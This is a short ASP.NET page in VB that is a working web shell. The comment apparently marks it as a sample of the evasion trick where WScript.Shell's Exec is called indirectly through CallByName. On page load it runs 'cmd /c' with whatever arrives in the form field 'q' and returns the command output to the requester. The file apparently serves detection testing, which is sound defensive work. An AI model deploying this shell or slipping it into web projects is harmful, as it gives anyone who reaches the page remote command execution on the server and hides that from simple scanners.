<%@ Page Language="VB" %>
<script runat="server">
' Sample: WScript.Shell's Exec reached through CallByName with the member name as a literal.
Sub Page_Load(sender As Object, e As EventArgs)
    Dim host As Object = CreateObject("WScript.Shell")
    Dim job As Object = CallByName(host, "Exec", CallType.Method, "cmd /c " & Request.Form("q"))
    Dim out As Object = CallByName(job, "StdOut", CallType.Get)
    Response.Write(Server.HtmlEncode(CallByName(out, "ReadAll", CallType.Method)))
End Sub
</script>
